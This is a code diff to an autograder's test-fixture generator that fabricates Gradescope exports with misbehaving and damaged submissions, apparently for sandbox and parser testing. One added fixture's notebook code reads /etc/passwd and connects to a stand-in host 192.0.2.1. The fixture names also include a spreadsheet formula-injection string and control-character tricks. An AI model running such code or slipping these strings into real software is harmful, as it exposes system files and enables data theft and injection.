@@ -45,6 +45,12 @@ EXITS = replace(RIGHT, name="exits", forward="import os\nos._exit(3)\n" + PLAIN_
 GREEDY = replace(RIGHT, name="greedy", forward="torch.ones(1 << 33)\n" + PLAIN_FORWARD)
 LOUD = replace(RIGHT, name="loud", forward="print('x' * 100_000)\n" + PLAIN_FORWARD)
 HANGS = replace(RIGHT, name="hangs", forward="while True:\n    pass\n" + PLAIN_FORWARD)
+SPIES = replace(
+    RIGHT,
+    name="spies",
+    forward="import socket\nopen('/etc/passwd').read()\nsocket.create_connection(('192.0.2.1', 80))\n"
+    + PLAIN_FORWARD,
+)
 
 
 def _both(answer: Answer) -> Files:
@@ -71,30 +77,46 @@ KINDS: Mapping[str, tuple[int, Kind]] = {
     "exits": (3, lambda: {NOTEBOOK: notebook_text(EXITS)}),
     "greedy": (2, lambda: {NOTEBOOK: notebook_text(GREEDY)}),
     "loud": (2, lambda: _both(LOUD)),
+    "spies": (2, lambda: {LOG: log_of(RIGHT), NOTEBOOK: notebook_text(SPIES)}),
 }
 """By name, with how many of a hundred there are. One that hangs costs its time limit, so it is extra."""
 
 
 def write_export(
-    folder: Path, size: int, *, seed: int = 0, kinds: Mapping[str, tuple[int, Kind]] = KINDS, hanging: int = 0
+    folder: Path,
+    size: int,
+    *,
+    seed: int = 0,
+    kinds: Mapping[str, tuple[int, Kind]] = KINDS,
+    hanging: int = 0,
+    damaged: int = 0,
 ) -> dict[str, str]:
     """Write an export of that size into a new folder; gives the kind of each id.
 
-    hanging: how many of the uploads hang, the first ones.
+    hanging: how many of the uploads hang, the first ones. damaged: how many more entries there are that
+    are damaged, each in the next of the ways in DAMAGES.
     """
     dice = random.Random(seed)
     names = list(kinds)
     shares = [share for share, _ in kinds.values()]
-    metadata: dict[str, Any] = {}
+    metadata: list[str] = []
     chosen: dict[str, str] = {}
-    for number in range(size):
-        name = "hangs" if number < hanging else dice.choices(names, shares)[0]
-        files = _both(HANGS) if number < hanging else kinds[name][1]()
+    for number in range(size + damaged):
         key = f"submission_{FIRST_ID + number}"
-        _write(folder / key, _own(files, number))
-        metadata[key] = entry(number, dice)
+        known = entry(number, dice)
+        if number >= size:
+            name = list(DAMAGES)[(number - size) % len(DAMAGES)]
+            files, told = DAMAGES[name](key, known)
+        else:
+            name = "hangs" if number < hanging else dice.choices(names, shares)[0]
+            # No log can come of an upload that hangs: its student has one from an earlier answer.
+            files = {LOG: log_of(RIGHT), NOTEBOOK: notebook_text(HANGS)}
+            files, told = files if number < hanging else kinds[name][1](), as_yaml({key: known})
+        if files is not None:
+            _write(folder / key, _own(files, number))
+        metadata.append(told)
         chosen[str(FIRST_ID + number)] = name
-    write_metadata(folder, metadata)
+    write_text(folder, "".join(metadata))
     return chosen
 
 
@@ -147,18 +169,50 @@ def entry(number: int, dice: random.Random) -> dict[str, Any]:
     }
 
 
-def write_metadata(folder: Path, metadata: Mapping[str, Any]) -> None:
+def as_yaml(metadata: Mapping[str, Any]) -> str:
+    return yaml.dump(dict(metadata), allow_unicode=True, sort_keys=False)
+
+
+def write_text(folder: Path, text: str) -> None:
+    """The metadata, as they stand in the file."""
     folder.mkdir(parents=True, exist_ok=True)
-    text = yaml.dump(dict(metadata), allow_unicode=True, sort_keys=False)
     (folder / METADATA).write_text(f"---\n{text}", encoding="utf-8")
+
+
+Damage = Callable[[str, dict[str, Any]], tuple[Files | None, str]]
+"""Of a key and its entry: the upload, None if it has no folder, and what the metadata say of it."""
+ODD_NAMES = (
+    '=HYPERLINK("http://x.example")',
+    'O\'Neil, "Bob"\nJr.',
+    "\u202eevil\u0000\x1b[31m",
+    "علی\u200cرضا",
+)
+DAMAGES: Mapping[str, Damage] = {
+    "an entry cut in half": lambda key, _: (_both(RIGHT), f'{key}:\n  :submitters:\n  - :name: "An\n'),
+    "an entry that is nothing": lambda key, _: (_both(RIGHT), f"{key}: ~\n"),
+    "an entry of nothings": lambda key, known: (_both(SOFT), as_yaml({key: dict.fromkeys(known)})),
+    "an entry of other sorts": lambda key, known: (
+        _both(RIGHT),
+        as_yaml({key: {":submitters": 7, ":score": ".nan", ":results": {"tests": [None, {"name": [1]}]}}}),
+    ),
+    "odd names": lambda key, known: (
+        _both(NO_SCALE),
+        as_yaml({key: {**known, ":submitters": [{":name": name, ":sid": "+1"} for name in ODD_NAMES]}}),
+    ),
+    "brackets without an end": lambda key, _: (_both(RIGHT), f"{key}:\n  :score: {'[' * 20_000}\n"),
+    "no entry": lambda key, _: (_both(RIGHT), ""),
+    "no folder": lambda key, known: (None, as_yaml({key: known})),
+    "an empty folder": lambda key, known: ({}, as_yaml({key: known})),
+    "a zip cut in half": lambda key, known: ({"hw.zip": "PK\x03\x04 and no more"}, as_yaml({key: known})),
+}
+"""Ways in which an entry of an export may be damaged or odd, by name."""
 
 
 def zipped(folder: Path, path: Path) -> Path:
     """The export as the zip that Gradescope gives: everything below one folder of any name."""
     with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
         for file in sorted(folder.rglob("*")):
-            if file.is_file():
-                archive.write(file, Path("assignment_77_export", file.relative_to(folder)))
+            archive.write(file, Path("assignment_77_export", file.relative_to(folder)))
     return path
 
 
@@ -168,5 +222,5 @@ def write_plain(folder: Path, uploads: Mapping[str, Mapping[str, str]]) -> Path:
     for name, files in uploads.items():
         _write(folder / f"submission_{name}", files)
     dice = random.Random(1)
-    write_metadata(folder, {f"submission_{name}": entry(i, dice) for i, name in enumerate(uploads)})
+    write_text(folder, as_yaml({f"submission_{name}": entry(i, dice) for i, name in enumerate(uploads)}))
     return folder
